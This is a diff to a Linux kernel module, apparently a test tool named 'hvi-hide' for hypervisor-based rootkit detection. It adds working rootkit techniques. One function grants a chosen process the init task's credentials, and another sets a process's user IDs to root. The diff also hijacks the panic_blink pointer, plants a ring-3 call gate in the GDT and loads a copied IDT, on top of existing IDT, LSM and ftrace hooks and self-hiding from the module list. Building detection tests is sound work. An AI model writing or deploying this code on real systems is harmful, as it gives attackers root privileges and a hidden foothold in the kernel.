@@ -12,10 +12,18 @@
  *	idt=N		point vector N of the interrupt table to this module
  *	lsm=1		hang a function of this module into a security hook
  *	ftrace=NAME	trace a function of the kernel's with one of this module
+ *	pointer=1	point panic_blink, a variable of the kernel's, to this module
+ *	cred=NAME	give the first process of this name the credentials of the
+ *			kernel's first task
+ *	uid=NAME	or, in place, user number 0
+ *	gdt=1		put a call gate into the table of segments of this processor
+ *	lidt=1		have this processor use another table of interrupts, a copy
  *
  * Each thing done is a line of the log, "hvi-hide: WHAT".
  */
+#include <linux/cred.h>
 #include <linux/ftrace.h>
+#include <linux/gfp.h>
 #include <linux/idr.h>
 #include <linux/init.h>
 #include <linux/kobject.h>
@@ -25,6 +33,7 @@
 #include <linux/rculist.h>
 #include <linux/slab.h>
 #include <linux/version.h>
+#include <asm/desc.h>
 #include <asm/desc_defs.h>
 
 #include "kernel.h"
@@ -47,6 +56,17 @@ static bool lsm;
 module_param(lsm, bool, 0);
 static char *ftrace;
 module_param(ftrace, charp, 0);
+
+static bool pointer;
+module_param(pointer, bool, 0);
+static char *cred;
+module_param(cred, charp, 0);
+static char *uid;
+module_param(uid, charp, 0);
+static bool gdt;
+module_param(gdt, bool, 0);
+static bool lidt;
+module_param(lidt, bool, 0);
 
 /* The function that hooks lead to. */
 static int hooked(void)
@@ -144,6 +164,69 @@ static int hook_ftrace(void)
 	return err;
 }
 
+static int hook_pointer(void)
+{
+	void **blink = (void **)lookup("panic_blink");
+
+	if (!blink)
+		return -ENOENT;
+	WRITE_ONCE(*blink, (void *)hooked);
+	pr_info("hvi-hide: panic_blink to %lx\n", (unsigned long)hooked);
+	return 0;
+}
+
+static int give_cred(void)
+{
+	struct task_struct *p = find_process(cred);
+
+	if (!p)
+		return -ESRCH;
+	rcu_assign_pointer(p->real_cred, get_cred(init_task.real_cred));
+	rcu_assign_pointer(p->cred, get_cred(init_task.real_cred));
+	pr_info("hvi-hide: credentials of task %d\n", p->pid);
+	return 0;
+}
+
+static int give_uid(void)
+{
+	struct task_struct *p = find_process(uid);
+	struct cred *c;
+
+	if (!p)
+		return -ESRCH;
+	c = (struct cred *)rcu_dereference_protected(p->real_cred, 1);
+	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
+	pr_info("hvi-hide: user of task %d\n", p->pid);
+	return 0;
+}
+
+static int add_gate(void)
+{
+	/* Where there is no LDT the two entries of its descriptor are empty. */
+	u64 *entry = (u64 *)get_current_gdt_rw() + GDT_ENTRY_LDT;
+	unsigned long to = (unsigned long)hooked;
+
+	entry[1] = to >> 32;
+	/* Present, for ring 3, type 12, to the kernel's code segment. */
+	entry[0] = (to & 0xffff) | (u64)__KERNEL_CS << 16 | 0xecULL << 40 | (to >> 16 & 0xffff) << 48;
+	pr_info("hvi-hide: call gate to %lx\n", to);
+	return 0;
+}
+
+static int move_idt(void)
+{
+	void *table = (void *)lookup("idt_table"), *copy = (void *)get_zeroed_page(GFP_KERNEL);
+	struct desc_ptr p = { .size = PAGE_SIZE - 1 };
+
+	if (!table || !copy)
+		return -ENOMEM;
+	memcpy(copy, table, PAGE_SIZE);
+	p.address = (unsigned long)copy;
+	asm volatile("lidt %0" : : "m"(p));
+	pr_info("hvi-hide: interrupt table to %lx\n", p.address);
+	return 0;
+}
+
 static void hide_module(void)
 {
 	struct mutex *lock = (struct mutex *)lookup("module_mutex");
@@ -174,6 +257,16 @@ static int __init hide_init(void)
 		err = hook_lsm();
 	if (!err && ftrace)
 		err = hook_ftrace();
+	if (!err && pointer)
+		err = hook_pointer();
+	if (!err && cred)
+		err = give_cred();
+	if (!err && uid)
+		err = give_uid();
+	if (!err && gdt)
+		err = add_gate();
+	if (!err && lidt)
+		err = move_idt();
 	if (!err && module)
 		hide_module();
 	return err;
